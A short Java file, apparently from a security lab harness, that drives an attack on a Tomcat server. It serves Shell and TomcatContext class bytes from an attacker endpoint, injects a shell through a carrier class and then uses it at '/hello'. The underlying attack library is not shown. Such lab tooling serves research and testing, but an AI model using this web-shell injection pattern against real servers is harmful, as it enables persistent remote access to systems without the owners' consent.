import java.util.Map;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Shells;
import whorl.lab.attack.TomcatContext;

public class Attack {
  public static void main(String[] args) throws Exception {
    Attacker.serve(
        Map.of(
            "/shell", Attacker.classBytes(Shell.class),
            "/context", Attacker.classBytes(TomcatContext.class)));
    Shells.inject(Carrier.class);
    Shells.use("/hello");
    Attacker.done();
  }
}
